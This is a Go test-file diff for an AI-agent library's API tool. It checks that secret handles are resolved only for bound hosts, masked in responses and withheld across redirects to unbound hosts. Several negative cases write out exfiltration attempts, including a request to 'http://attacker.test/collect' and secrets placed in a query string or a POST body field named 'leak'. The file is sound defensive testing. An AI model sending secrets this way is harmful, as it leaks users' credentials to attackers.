@@ -4,10 +4,15 @@ import (
 	"context"
 	"net/http"
 	"net/http/httptest"
+	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
+	agentErrors "github.com/kart-io/goagent/errors"
 	"github.com/kart-io/goagent/interfaces"
+	"github.com/kart-io/goagent/secrets"
+	"github.com/kart-io/goagent/tools"
 	"github.com/kart-io/goagent/utils/json"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -254,6 +259,134 @@ func TestAPITool_CustomHeaders(t *testing.T) {
 	assert.True(t, output.Success)
 }
 
+// TestAPITool_SecretHandles tests that secret handles are resolved for the request and masked in the output
+func TestAPITool_SecretHandles(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.Equal(t, "Bearer token-abc123", r.Header.Get("Authorization"))
+		assert.Equal(t, "key-xyz789", r.Header.Get("X-Api-Key"))
+		w.WriteHeader(http.StatusOK)
+		_, _ = w.Write([]byte(`{"echo":"` + r.Header.Get("X-Api-Key") + `"}`))
+	}))
+	defer server.Close()
+
+	resolver := secrets.NewResolver(secrets.Map{"api": "token-abc123", "key": "key-xyz789", "other": "other-token"},
+		secrets.WithMasker(secrets.NewMasker()),
+		secrets.WithBinding("api", secrets.Binding{Tools: []string{tools.ToolAPI}, Hosts: []string{"127.0.0.1"}}),
+		secrets.WithAllowedHosts("key", "127.0.0.1"),
+		secrets.WithAllowedHosts("missing", "127.0.0.1"),
+		secrets.WithAllowedHosts("other", "*.example.com"))
+	tool := NewAPIToolBuilder().
+		WithBaseURL(server.URL).
+		WithSecretAuth("api").
+		WithSecrets(resolver).
+		Build()
+	ctx := context.Background()
+
+	output, err := tool.Invoke(ctx, &interfaces.ToolInput{
+		Args: map[string]interface{}{
+			"method":  "GET",
+			"url":     "/test",
+			"headers": map[string]interface{}{"X-Api-Key": "{{secret:key}}"},
+		},
+		Context: ctx,
+	})
+
+	require.NoError(t, err)
+	assert.True(t, output.Success)
+	result := output.Result.(map[string]interface{})
+	assert.Equal(t, "{{secret:key}}", result["body"].(map[string]interface{})["echo"])
+
+	_, err = tool.Invoke(ctx, &interfaces.ToolInput{
+		Args: map[string]interface{}{
+			"url":     "/test",
+			"headers": map[string]interface{}{"X-Api-Key": "{{secret:missing}}"},
+		},
+		Context: ctx,
+	})
+	assert.Error(t, err)
+
+	// Handles outside headers and secrets not bound to the destination are rejected
+	for _, args := range []map[string]interface{}{
+		{"url": "/test", "headers": map[string]interface{}{"X-Api-Key": "{{secret:other}}"}},
+		{"url": "http://attacker.test/collect"},
+		{"url": "/test?key={{secret:key}}"},
+		{"url": "/test", "method": "POST", "body": map[string]interface{}{"leak": "{{secret:key}}"}},
+	} {
+		_, err := tool.Invoke(ctx, &interfaces.ToolInput{Args: args, Context: ctx})
+		assert.True(t, agentErrors.IsCode(err, agentErrors.CodeSecretDenied), "%v: %v", args, err)
+	}
+}
+
+// TestAPITool_SecretRedirect tests that secrets do not follow redirects to unbound hosts
+func TestAPITool_SecretRedirect(t *testing.T) {
+	var leaked atomic.Bool
+	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") != "" || r.Header.Get("X-Api-Key") != "" {
+			leaked.Store(true)
+		}
+		w.WriteHeader(http.StatusOK)
+	}))
+	defer target.Close()
+	// The same server reached through localhost has a different host name
+	external := strings.Replace(target.URL, "127.0.0.1", "localhost", 1)
+
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/external":
+			http.Redirect(w, r, external+"/collect", http.StatusFound)
+		case "/internal":
+			http.Redirect(w, r, "/ok", http.StatusFound)
+		default:
+			w.WriteHeader(http.StatusOK)
+		}
+	}))
+	defer server.Close()
+
+	resolver := secrets.NewResolver(secrets.Map{"api": "token-abc123", "key": "key-xyz789"},
+		secrets.WithMasker(secrets.NewMasker()),
+		secrets.WithAllowedHosts("api", "127.0.0.1"),
+		secrets.WithAllowedHosts("key", "127.0.0.1"))
+	ctx := context.Background()
+
+	headerTool := NewAPITool(server.URL, 5*time.Second, nil).WithSecrets(resolver)
+	authTool := NewAPIToolBuilder().
+		WithBaseURL(server.URL).
+		WithSecretAuth("api").
+		WithSecrets(resolver).
+		Build()
+
+	for name, tc := range map[string]struct {
+		tool *APITool
+		args map[string]interface{}
+	}{
+		"header":         {headerTool, map[string]interface{}{"headers": map[string]interface{}{"X-Api-Key": "{{secret:key}}"}}},
+		"default header": {authTool, map[string]interface{}{}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			leaked.Store(false)
+			args := map[string]interface{}{"url": "/internal"}
+			for k, v := range tc.args {
+				args[k] = v
+			}
+			output, err := tc.tool.Invoke(ctx, &interfaces.ToolInput{Args: args, Context: ctx})
+			require.NoError(t, err)
+			assert.True(t, output.Success, "redirects to bound hosts are followed")
+
+			args["url"] = "/external"
+			_, err = tc.tool.Invoke(ctx, &interfaces.ToolInput{Args: args, Context: ctx})
+			assert.Error(t, err)
+			assert.False(t, leaked.Load(), "secret must not follow the redirect")
+		})
+	}
+
+	output, err := headerTool.Invoke(ctx, &interfaces.ToolInput{
+		Args:    map[string]interface{}{"url": "/external"},
+		Context: ctx,
+	})
+	require.NoError(t, err)
+	assert.True(t, output.Success, "requests without secrets follow redirects")
+}
+
 // TestAPITool_Non2xxStatus tests non-2xx status codes
 func TestAPITool_Non2xxStatus(t *testing.T) {
 	tests := []struct {